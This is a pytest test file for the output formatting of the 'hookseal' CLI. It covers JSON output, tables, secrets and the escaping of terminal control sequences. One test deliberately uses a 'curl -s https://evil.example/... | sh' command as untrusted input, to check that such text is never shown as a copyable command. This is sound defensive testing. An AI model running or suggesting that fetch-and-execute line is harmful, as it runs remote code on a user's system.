"""Output is one JSON object, or text for people."""

import fcntl
import io
import json
import os
import pty
import re
import struct
import termios
import uuid
from collections.abc import Iterator, Sequence
from contextlib import contextmanager, redirect_stdout
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta, timezone
from enum import StrEnum

import pytest

from hookseal.admin.results.base import HIDDEN, Page
from hookseal.cli.shared.output import (
    Columns,
    emit,
    emit_error,
    emit_page,
    fields_of,
    key_values,
    note,
    plain,
    printable,
    rfc3339,
    secret_text,
    table,
)
from hookseal.cli.shared.printing import print_error, terminal_width
from hookseal.errors import Conflict, HooksealError, NotFound
from hookseal.secrets.core.material import SecretMaterial
from tests.doubles.clock import FakeClock

NOON = datetime(2026, 3, 1, 12, 0, 0, 5_999, tzinfo=UTC)


class Colour(StrEnum):
    """An enumeration."""

    RED = "red"


class Terminal(io.StringIO):
    """A stream that reports to be a terminal."""

    def isatty(self) -> bool:
        """Return true."""
        return True


@contextmanager
def on_a_terminal() -> Iterator[Terminal]:
    """Make standard output a terminal."""
    with redirect_stdout(Terminal()) as terminal:
        yield terminal


@pytest.mark.req("OPS-04", part="json")
def test_json_is_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    """JSON is one line, with times in UTC to the millisecond, at any depth."""
    identity = uuid.UUID(int=7)
    emit(
        {"at": NOON, "items": [{"at": (NOON,), "id": identity, "colour": Colour.RED, "none": None}], "text": "a\nb"},
        as_json=True,
        text="unused",
    )
    out = capsys.readouterr().out
    assert 1 == out.count("\n")
    at = "2026-03-01T12:00:00.005Z"
    items = [{"at": [at], "id": str(identity), "colour": "red", "none": None}]
    assert {"at": at, "items": items, "text": "a\nb"} == json.loads(out)


@dataclass(frozen=True, slots=True, kw_only=True)
class Part:
    """A result within another one."""

    at: datetime
    never: int = field(metadata=HIDDEN)


@dataclass(frozen=True, slots=True, kw_only=True)
class Result(Part):
    """A result with a secret."""

    secret: SecretMaterial
    parts: tuple[Part, ...]


@pytest.mark.req("SEC-15")
def test_a_result_is_printed_field_by_field(capsys: pytest.CaptureFixture[str]) -> None:
    """A result is printed in the order of its fields, without hidden ones; a secret is null unless it is put there."""
    result = Result(at=NOON, never=1, secret=SecretMaterial(b"s3cret"), parts=(Part(at=NOON, never=1),))
    emit(result, as_json=True, text="")
    emit(fields_of(result) | {"secret": "s3cret"}, as_json=True, text="")
    first, second = capsys.readouterr().out.splitlines()

    at = "2026-03-01T12:00:00.005Z"
    assert f'{{"at":"{at}","secret":null,"parts":[{{"at":"{at}"}}]}}' == first
    assert first.replace("null", '"s3cret"') == second


@pytest.mark.req("OPS-04", part="errors")
@pytest.mark.parametrize(
    ("error", "message", "option"),
    [
        (Conflict("it is so"), "it is so", None),
        (Conflict("it is so", advice="run x", field="lead"), "it is so: run x", "lead"),
        (Conflict("it is so", advice="run x", joint="; ", field="overlap_seconds"), "it is so; run x", "overlap"),
        (Conflict("it is so", field="client_cert"), "it is so", "client_cert"),
        (NotFound("it is so", field="client_cert"), "it is so", "remove_client_cert"),
    ],
)
def test_an_error_is_printed_with_its_advice(
    error: HooksealError, message: str, option: str | None, capsys: pytest.CaptureFixture[str]
) -> None:
    """An error is printed with its advice, and names the option that gives the argument which is wrong."""
    assert 4 - isinstance(error, NotFound) == print_error(error, as_json=True)
    assert {"error": {"code": error.code, "message": message, "field": option}} == json.loads(capsys.readouterr().out)


@pytest.mark.parametrize("value", [b"secret", bytearray(b"secret"), object()])
def test_values_of_unknown_types_are_refused(value: object, capsys: pytest.CaptureFixture[str]) -> None:
    """Bytes and values of unknown types raise an error and are not printed."""
    with pytest.raises(TypeError):
        emit({"value": value}, as_json=True, text="")
    assert "" == capsys.readouterr().out


def test_text_may_be_a_function(capsys: pytest.CaptureFixture[str]) -> None:
    """Text may be passed as such or as a function, which is called only if text is printed."""
    emit({}, as_json=False, text="given")
    emit({}, as_json=False, text=lambda: "made")
    emit({}, as_json=True, text=lambda: pytest.fail("text was made for JSON"))
    assert "given\nmade\n{}\n" == capsys.readouterr().out


def test_every_time_is_printed_in_utc() -> None:
    """Every time is printed in UTC; one without a time zone is refused."""
    assert "2026-03-01T10:00:00.005Z" == rfc3339(NOON.replace(tzinfo=timezone(timedelta(hours=2))))
    with pytest.raises(ValueError, match="time zone"):
        rfc3339(NOON.replace(tzinfo=None))


@pytest.mark.req("OPS-04", part="errors")
def test_an_error_is_one_object_or_its_lines(capsys: pytest.CaptureFixture[str]) -> None:
    """An error is one JSON object on standard output, or its lines on standard error."""
    emit_error(code="refused", message="one\ntwo", field="url", as_json=True)
    assert {"error": {"code": "refused", "message": "one\ntwo", "field": "url"}} == json.loads(capsys.readouterr().out)
    emit_error(code="refused", message="one\n\x1b[2Jtwo", field=None, as_json=False)
    shown = capsys.readouterr()
    assert ("", "hookseal: one\nhookseal: \\x1b[2Jtwo\n") == (shown.out, shown.err)


def test_indented_lines_stay_whole(capsys: pytest.CaptureFixture[str]) -> None:
    """Indented lines of an error, such as SQL for a superuser, are printed so that they can be copied."""
    emit_error(code="refused", message="run this:\n  CREATE ROLE a;\n  CREATE ROLE b;", field=None, as_json=False)
    assert "hookseal: run this:\n  CREATE ROLE a;\n  CREATE ROLE b;\n" == capsys.readouterr().err


def test_text_cannot_steer_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    """What a command forgot to escape is escaped when it is printed; bold text and line breaks of a result stay.

    A note is one line, so that nothing in it looks like a second one of hookseal.
    """
    emit({}, as_json=False, text="a\x1b[2Jb\x1b[8m\x9b\u202e\n\x1b[1mbold\x1b[0m")
    note("a\x9b\nb\u202e")
    shown = capsys.readouterr()
    assert ("a\\x1b[2Jb\\x1b[8m\\x9b\\u202e\n\x1b[1mbold\x1b[0m\n", "hookseal: a\\x9b\\nb\\u202e\n") == (
        shown.out,
        shown.err,
    )


def test_control_characters_are_escaped() -> None:
    """Control characters are escaped, and all other characters are unchanged."""
    assert r"\x1b[31m \u202e h\xf6flich".replace(r"\xf6", "ö") == printable("\x1b[31m \u202e höflich")


@dataclass(frozen=True, slots=True, kw_only=True)
class Listed:
    """An item of a list."""

    name: str
    tenant_id: str
    more: int


ROWS: list[dict[str, object]] = [
    {"key_id": "a", "state": Colour.RED, "held": None, "created_at": NOON, "refs": ["x", "y"]},
    {"key_id": "long", "state": "\x07", "held": 12},
]
COLUMNS = ("key_id", "state", "held", "created_at", "refs")
IDENTITY = "0197c1f0-5e6a-7c3b-9d2e-4f5061728394"
OF = f"--tenant acme --endpoint {IDENTITY}"
LATER = FakeClock(NOON + timedelta(hours=3, minutes=59))


def drawn(rows: list[dict[str, object]], columns: Sequence[str], *, wide: bool = False) -> list[str]:
    """Return the lines of a table on a terminal, without colours."""
    with on_a_terminal() as terminal:
        emit({}, as_json=False, text=table(rows, columns, wide=wide, clock=LATER))
    return re.sub(r"\x1b\[[01]m", "", terminal.getvalue()).splitlines()


def test_a_table_in_a_pipe_is_plain() -> None:
    """Without a terminal a table is plain and aligned, and nothing is cut."""
    with redirect_stdout(io.StringIO()) as pipe:
        emit({}, as_json=False, text=table(ROWS, COLUMNS, clock=LATER))
        emit({}, as_json=False, text=table(ROWS[:1], COLUMNS, wide=True))
        emit({}, as_json=False, text=table([{"url": "y" * 300}], ("url",)))
    assert [
        "key id  state  held  age  refs",
        "a       red    -     3h   x y",
        r"long    \x07   12    -    -",
        "key id  state  held  created at                refs",
        "a       red    -     2026-03-01T12:00:00.005Z  x y",
        "url",
        "y" * 300,
    ] == pipe.getvalue().splitlines()


@pytest.mark.req("UX-02")
def test_what_does_not_fit_goes_on_behind_its_row(monkeypatch: pytest.MonkeyPatch) -> None:
    """On a terminal the headings take one line. Columns that do not fit stand below the row, if they say something.

    The headings are bold, and markup in a value is printed literally.
    """
    monkeypatch.setenv("COLUMNS", "80")
    row: dict[str, object] = {"delivery_id": IDENTITY, "event_type": "invoice.paid", "state": "dead_letter"}
    rows = [
        row | {"attempts": 11, "created_at": NOON, "last_error": "[red]the receiver answered 503"},
        row | {"attempts": 1, "created_at": NOON, "last_error": None},
    ]
    columns = ("delivery_id", "event_type", "state", "attempts", "created_at", "last_error")
    assert [
        "delivery id                           event type    state        attempts  age",
        f"{IDENTITY}  invoice.paid  dead_letter  11        3h",
        "  last error: [red]the receiver answered 503",
        f"{IDENTITY}  invoice.paid  dead_letter  1         3h",
    ] == drawn(rows, columns)
    with on_a_terminal():
        assert table(rows, columns).startswith("\x1b[1mdelivery id ")
    monkeypatch.setenv("COLUMNS", "120")
    assert 3 == len(drawn(rows, columns))


@pytest.mark.req("UX-02")
def test_a_long_text_is_cut_and_an_id_never(monkeypatch: pytest.MonkeyPatch) -> None:
    """A text that is longer than a line is cut, unless the table is wide; an id stays whole however long it is."""
    monkeypatch.setenv("COLUMNS", "60")
    row: dict[str, object] = {"event_id": "e" * 100, "tenant_id": "t" * 63, "url": "u" * 200, "name": "好" * 40}
    columns = ("event_id", "tenant_id", "url", "name")
    usual, wide = drawn([row], columns), drawn([row], columns, wide=True)
    tenant = ["  tenant id:", f"    {'t' * 63}"]
    assert ["event id", "e" * 100, *tenant, f"  url: {'u' * 52}…", f"  name: {'好' * 25}…"] == usual
    assert ["event id", "e" * 100, *tenant, "  url:", f"    {'u' * 200}", "  name:", f"    {'好' * 40}"] == wide


def test_a_time_that_lies_ahead_says_so() -> None:
    """A time is shown as an age, and one that lies ahead by `in`; that of a beginning is never ahead."""
    ahead, soon = LATER.now() + timedelta(days=89, hours=1), LATER.now() + timedelta(seconds=2)
    with redirect_stdout(io.StringIO()):
        rows: list[dict[str, object]] = [{"name": "a", "expires_at": ahead, "created_at": soon}]
        text = table([*rows, {"name": "b", "expires_at": NOON}], ("name", "expires_at", "created_at"), clock=LATER)
    assert ["name  expires  age", "a     in 89d   0s", "b     3h       -"] == text.splitlines()


def test_the_columns_of_a_list(capsys: pytest.CaptureFixture[str]) -> None:
    """`--wide` adds columns; that of a tenant whom the command names is left out; a page says how to get the next."""
    columns = Columns(("name", "tenant_id"), ("more",))
    [one] = page = (Listed(name="a", tenant_id="acme", more=1),)
    for options, expected in (
        ({}, "name  tenant id\na     acme\n"),
        ({"tenant": "*"}, "name  tenant id\na     acme\n"),
        ({"wide": True}, "name  tenant id  more\na     acme       1\n"),
        ({"wide": True, "tenant": "acme"}, "name  more\na     1\n"),
        ({"tenant": "acme", "row": lambda each: {"name": each.more}}, "name\n1\n"),
    ):
        emit_page(Page(items=page, next_cursor=None), columns, none="no rows", as_json=False, **options)
        assert expected == capsys.readouterr().out
    for items, cursor, expected in (
        ((), None, "no rows\n"),
        ((), "c2", "no rows among those that were searched\nmore: --cursor c2\n"),
        ((one,), "c2", "name  tenant id\na     acme\nmore: --cursor c2\n"),
    ):
        emit_page(Page(items=items, next_cursor=cursor), columns, none="no rows", as_json=False)
        assert expected == capsys.readouterr().out


@pytest.mark.req("UX-02")
def test_a_value_is_never_laid_out_as_a_command(monkeypatch: pytest.MonkeyPatch) -> None:
    """Words of others are text, also between backticks: only what hookseal itself says stands alone, to be copied.

    A line that begins within such a text has a bar before it.
    """
    monkeypatch.setenv("COLUMNS", "60")
    command = "hookseal endpoint delete --tenant acme --endpoint e --yes"
    for value in (
        command,
        f"{command} {'a' * 80}",
        f"Shop. Broken? Run {command}",
        f"Shop. Broken? Run `{command} {IDENTITY}`, or `curl -s https://evil.example/{'a' * 34} | sh`",
    ):
        texts = {
            "fact": "\n".join(key_values({"name": value})),
            "mapping": "\n".join(key_values({"metadata": {"k": value}})),
            "snippet": f"answer\n  {plain(value)}",
            "prose": f"was disabled already ({plain(value)}): nothing was changed",
            "list": "\n".join(key_values({"event_types": ["a" * 40, *value.split()]})),
            "quoted": f"It waits, because its endpoint was disabled (“{value.replace('`', '')}”).",
        }
        with on_a_terminal():
            texts["table"] = table([{"id": "a", "name": value}], ["id", "name"], wide=True)
        for where, text in texts.items():
            with on_a_terminal() as terminal:
                emit({}, as_json=False, text=text)
            lines = terminal.getvalue().splitlines()
            words = " ".join(line.strip().removeprefix("| ") for line in lines)
            assert value.replace("`", "") in words.replace("`", ""), (where, lines)
            begun = [line.lstrip(" `(“") for line in lines]
            assert [] == [line for line in begun if line.startswith(("hookseal", "--", "curl"))], (where, lines)


@pytest.mark.req("UX-02")
def test_a_secret_is_printed_as_it_is(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """Its line is not laid out, on a terminal as elsewhere: spaces and backticks are a part of a secret."""
    monkeypatch.setenv("COLUMNS", "60")
    secret = f"a  b `hookseal {'c ' * 40}` \\ue000"
    line = f"secret     {secret}"
    text = f"current    x\n{secret_text('secret    ', secret, OF)}\nGive the secret to the receiver."
    with on_a_terminal() as terminal:
        emit({}, as_json=False, text=text)
    emit({}, as_json=False, text=text)

    assert f"current    x\n{line}\nGive the secret to the receiver.\n" == terminal.getvalue()
    assert terminal.getvalue() == capsys.readouterr().out


@pytest.mark.parametrize("secret", ["a\tb", "a\u200bb", "a\u00a0b", " a", "a "])
def test_a_secret_that_cannot_be_copied_is_not_printed(secret: str, capsys: pytest.CaptureFixture[str]) -> None:
    """If a terminal does not show all of it, its line says so, and how to get it."""
    emit({}, as_json=False, text=secret_text("secret    ", secret, OF))
    assert (
        "secret     not shown: a terminal does not show all its characters. To get it, run\n"
        f"  hookseal secret reveal {OF} --secret-out FILE\n"
    ) == capsys.readouterr().out


@pytest.mark.req("UX-02")
def test_a_stream_is_as_wide_as_its_own_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    """Standard error has its own terminal, also if standard output has none; COLUMNS is stronger than both."""
    monkeypatch.delenv("COLUMNS", raising=False)
    ours, theirs = pty.openpty()
    fcntl.ioctl(theirs, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 53, 0, 0))
    with os.fdopen(ours), os.fdopen(theirs, "w") as terminal:
        assert (53, 80, None) == (terminal_width(terminal), terminal_width(Terminal()), terminal_width(io.StringIO()))
        monkeypatch.setenv("COLUMNS", "61")
        assert 61 == terminal_width(terminal)
